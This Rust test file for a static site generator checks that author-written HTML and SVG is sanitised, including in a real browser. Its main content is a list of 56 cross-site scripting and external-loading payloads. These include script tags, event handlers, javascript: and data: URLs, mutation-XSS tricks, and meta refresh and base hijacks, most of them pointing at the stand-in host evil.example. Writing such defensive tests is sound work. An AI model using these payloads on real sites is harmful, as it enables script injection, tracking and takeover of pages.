//! HTML and SVG that authors write into their texts, where `site.toml` allows it.

use std::fs;

use crate::browser::chromium::Chromium;
use crate::support::{build, page, sources, string, text};

const ALLOWED: (&str, &str) = ("site.toml", "title = \"A dossier\"\nunsafe_html = true\n");

/// What would run, load something from elsewhere, or take over the page around it. `pwn()` is what it runs.
const ATTACKS: [&str; 56] = [
    "<script>pwn()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "a <script>pwn()</script> in the text",
    "<img src=# onerror=pwn()>",
    "<img src=\"https://evil.example/seen.gif\">",
    "<img src=\"//evil.example/seen.gif\">",
    "<img src=\"/\\evil.example/seen.gif\">",
    "<img srcset=\"x.png 1x, https://evil.example/seen.gif 2x\">",
    "<IMG SRC=\"javascript:pwn()\">",
    "<a href=\"javascript:pwn()\" id=\"go\">go</a>",
    "<a href=\"JaVaScRiPt:pwn()\">go</a>",
    "<a href=\"java\tscript:pwn()\">go</a>",
    "<a href=\"&#106;avascript&colon;pwn()\">go</a>",
    "<a href=\" javascript:pwn()\">go</a>",
    "<a href=\"data:text/html,<script>pwn()</script>\">go</a>",
    "<a href=\"vbscript:pwn()\">go</a>",
    "<p onclick=pwn() onmouseover=\"pwn()\">text</p>",
    "<body onload=pwn()>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
    "<object data=\"data:text/html,<script>pwn()</script>\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example/\"><button formaction=\"javascript:pwn()\">send</button></form>",
    "<input type=\"image\" src=\"https://evil.example/seen.gif\">",
    "<input autofocus onfocus=pwn()>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<p style=\"background: url(https://evil.example/seen.gif)\">text</p>",
    "<p style=\"position: fixed; inset: 0; z-index: 9999\">over all</p>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<meta http-equiv=refresh content=\"0; url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<video src=\"https://evil.example/x.mp4\" poster=\"https://evil.example/x.png\"></video>",
    "<audio src=\"https://evil.example/x.mp3\" onerror=pwn()></audio>",
    "<video><source onerror=pwn() src=\"https://evil.example/x.mp4\"></video>",
    "<svg onload=pwn()></svg>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script href=\"data:text/javascript,pwn()\"/></svg>",
    "<svg><a xlink:href=\"javascript:pwn()\"><text y=\"10\">go</text></a></svg>",
    "<svg><a href=\"javascript:pwn()\"><text y=\"10\">go</text></a></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:pwn() /><text y=\"10\">go</text></a></svg>",
    "<svg><set attributeName=onmouseover to=pwn() /></svg>",
    "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=pwn()></svg>#x\"/></svg>",
    "<svg><image href=\"https://evil.example/seen.gif\"/></svg>",
    "<svg><foreignObject><iframe src=\"https://evil.example/\"></iframe></foreignObject></svg>",
    "<svg><style>* { fill: url(https://evil.example/x.svg#a) }</style></svg>",
    "<svg><rect width=\"9\" height=\"9\" fill=\"url(https://evil.example/x.svg#a)\"/></svg>",
    "<svg><desc><img src=# onerror=pwn()></desc></svg>",
    "<svg></p><style><a id=\"</style><img src=# onerror=pwn()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwn()&gt;\">",
    "<math><mi xlink:href=\"javascript:pwn()\">go</mi></math>",
    "<noscript><p title=\"</noscript><img src=# onerror=pwn()>\"></noscript>",
    "<textarea></textarea><img src=# onerror=pwn()>",
    "<template><img src=# onerror=pwn()></template>",
    "</article></main></body></html><script>pwn()</script>",
];

/// The pages on which all these stand, one on each.
fn attacked() -> Vec<(String, String)> {
    let page = |(n, attack): (usize, &&str)| {
        (format!("content/explainers/a{n}.md"), format!("# Page {n}\n\nBefore.\n\n{attack}\n\nAfter.\n"))
    };
    ATTACKS.iter().enumerate().map(page).collect()
}

#[test]
fn what_is_dropped_is_told_with_its_place() {
    let pages = attacked();
    let mut files: Vec<(&str, &str)> =
        pages.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    files.push(ALLOWED);
    let sources = sources(&files);
    let site = build(&sources);
    let report = text(&sources, &site);
    assert!(!dossier::has_errors(&site.diagnostics), "{report}");
    let mut silent = Vec::new();
    for (n, attack) in ATTACKS.iter().enumerate() {
        let html = string(&site, &format!("explainers/a{n}.html"));
        for mark in ["pwn", "evil.example"] {
            // Only as text, if at all.
            let shown = html.split(mark).skip(1).count();
            assert!(shown == 0 || attack.contains("title="), "{attack}: {html}");
        }
        // A comment that is not closed goes on to the end.
        let is_whole = html.contains("After.") || attack.contains("<!--</style>");
        assert!(html.contains("Before.") && is_whole, "{attack}");
        if !report.contains(&format!("--> content/explainers/a{n}.md:5:")) {
            silent.push(*attack);
        }
    }
    assert_eq!(silent, Vec::<&str>::new(), "{report}");
    println!("{} attacks in authored HTML, {0} told with their place", ATTACKS.len());
}

/// What may stand in no text may not come in by its number either.
#[test]
fn what_turns_the_text_around_is_an_error_by_its_number_too() {
    let texts = ["<b>&#x202E;moc.live</b>", "<b title=\"&#8238;\">x</b>", "<p>&#1;</p>", "<b>&#x2067;x</b>"];
    for html in texts {
        let sources = sources(&[ALLOWED, ("content/explainers/x.md", &format!("# X\n\n{html}\n"))]);
        let site = build(&sources);
        let report = text(&sources, &site);
        assert!(dossier::has_errors(&site.diagnostics), "{html}: {report}");
        assert!(
            report.contains("by its number") && report.contains("content/explainers/x.md:3:"),
            "{html}: {report}"
        );
    }
}

#[test]
fn what_shows_something_stays() {
    let kept = [
        "<details open=\"\"><summary>More</summary>",
        "<abbr title=\"World Trade\">WT</abbr>",
        "<video src=\"../film.mp4\" controls=\"\" width=\"320\"></video>",
        "<img src=\"../drawn.png\" alt=\"A boat\" width=\"20\" height=\"10\">",
        "<p class=\"box\" lang=\"fa\" dir=\"rtl\" aria-label=\"A box\">",
        "<a href=\"mailto:desk@herald.example\">",
        "<svg viewBox=\"0 0 20 10\" role=\"img\" aria-label=\"A line\"><defs><linearGradient id=\"g\"><stop offset=\"0\" \
         stop-color=\"red\"></stop></linearGradient></defs><path d=\"M0 0L20 10\" stroke=\"url(#g)\"></path><use \
         href=\"#p\"></use></svg>",
    ];
    let prose = format!(
        "# A page\n\nSaid [once](https://herald.example/a \"T\").[^1]\n\n{}\n\n</details>\n\n[^1]: A note.\n",
        kept.join("\n\nwords\n\n")
    );
    let files = [
        ALLOWED,
        ("content/explainers/x.md", prose.as_str()),
        ("static/film.mp4", "film"),
        ("static/drawn.png", "drawn"),
    ];
    let sources = sources(&files);
    let site = build(&sources);
    assert_eq!(text(&sources, &site), "");
    let html = string(&site, "explainers/x.html");
    for part in kept {
        assert!(html.contains(part), "{part}\n{html}");
    }
    assert!(html.contains("<a href=\"https://herald.example/a\" title=\"T\">once</a>"), "{html}");
    assert!(html.contains("id=\"fnref-1-1\"") && html.contains("id=\"fn-1\""), "{html}");
}

/// One piece of HTML in a text changes nothing of what our own notation becomes.
#[test]
fn the_rest_of_such_a_text_is_as_without_it() {
    let prose = "# A page\n\n[[ada]] and [[ada|her]] *met* somebody [@s ¶1], :count[one]{people of=grp} of them.[^1]\n\n\
                 - [x] done\n- [ ] open\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n> [!NOTE]\n> Well.\n\n```rust\nfn main() {}\n```\n\n\
                 ::people{of=grp}\n\n## A heading\n\nTerm\n: What it is ~~not~~ & \"more\" [there](ada.md).\n\n[^1]: A note.\n";
    let base = [
        (
            "content/people.toml",
            "[ada]\nname = \"Ada\"\ncite = \"s\"\nroles = [{ role = \"head\", of = \"grp\" }]\n",
        ),
        ("content/groups.toml", "[grp]\nname = \"Grp\"\ntype = \"other\"\n"),
        ("content/sources.toml", "[s]\ntitle = \"S\"\ntype = \"report\"\n"),
        ("content/explainers/ada.md", "# Ada's page\n\nText.\n"),
    ];
    let main = |site: &str, prose: &str| {
        let mut files = base.to_vec();
        files.push(("site.toml", site));
        files.push(("content/explainers/x.md", prose));
        let html = page(&files, "explainers/x.html");
        let article = html.split_once("<main").unwrap().1.split_once("</main>").unwrap().0.to_owned();
        // Ways of writing the same.
        let same = [
            ("text-align: ", "text-align:"),
            (" />", ">"),
            ("&quot;", "\""),
            ("=\"\"", ""),
            ("&#x27;", "'"),
            ("&#39;", "'"),
        ];
        same.iter().fold(article, |html, (one, other)| html.replace(one, other))
    };
    let without = main("title = \"T\"\n", prose);
    let with = main("title = \"T\"\nunsafe_html = true\n", &format!("{prose}\n<b></b>\n"));
    assert_eq!(
        with.replace("<p><b></b></p>", "").split_whitespace().collect::<Vec<_>>(),
        without.split_whitespace().collect::<Vec<_>>()
    );
}

/// What a comment says, and what is dropped, is in no format of export either.
#[test]
fn what_is_dropped_is_in_no_file() {
    let prose =
        "# A page\n\nText.\n\n<!-- for the desk alone -->\n\n<script>secret()</script>\n\n<b>bold</b>\n";
    let sources = sources(&[ALLOWED, ("content/explainers/x.md", prose)]);
    let site = build(&sources);
    for (path, bytes) in crate::support::files(&site) {
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains("for the desk alone") && !text.contains("secret()"), "{path}");
    }
}

#[tokio::test]
async fn nothing_of_it_runs_in_a_browser() {
    let Some(browser) = Chromium::start().await else { return };
    let pages = attacked();
    let mut files: Vec<(&str, &str)> =
        pages.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    files.push(ALLOWED);
    let site = build(&sources(&files));
    let folder = tempfile::tempdir().unwrap();
    dossier::disk::write::apply(&site.value.output, folder.path()).unwrap();
    let base = format!("file://{}/", fs::canonicalize(folder.path()).unwrap().display());
    let mut tab = browser.tab().await;
    let mut faults = Vec::new();
    for (n, attack) in ATTACKS.iter().enumerate() {
        tab.open(&format!("{base}explainers/a{n}.html")).await;
        let found: Vec<String> = tab
            .value(
                "(() => { const found = []; for (const node of document.querySelectorAll('article *, main *')) {
                    for (const a of node.attributes) if (a.name.startsWith('on')) found.push(a.name);
                    if (/^(script|style|iframe|object|embed|form|base|meta|link|foreignObject|animate|set)$/i.test(node.localName)) found.push(node.localName);
                    const href = node.getAttribute('href') || node.getAttribute('xlink:href') || '';
                    if (/^[\\s\\x00-\\x20]*(javascript|data|vbscript):/i.test(href.replace(/[\\t\\n\\r]/g, ''))) found.push(href); }
                    if (document.querySelectorAll('main').length !== 1 || !document.querySelector('main + footer, footer')) found.push('the page is another');
                    return found; })()",
            )
            .await;
        faults.extend(found.into_iter().map(|what| format!("{attack}: {what}")));
        faults.extend(tab.heard(&base).await.into_iter().map(|what| format!("{attack}: {what}")));
    }
    println!("{} pages with attacks opened, {} faults", ATTACKS.len(), faults.len());
    assert!(faults.is_empty(), "{faults:#?}");
    browser.close().await;
}
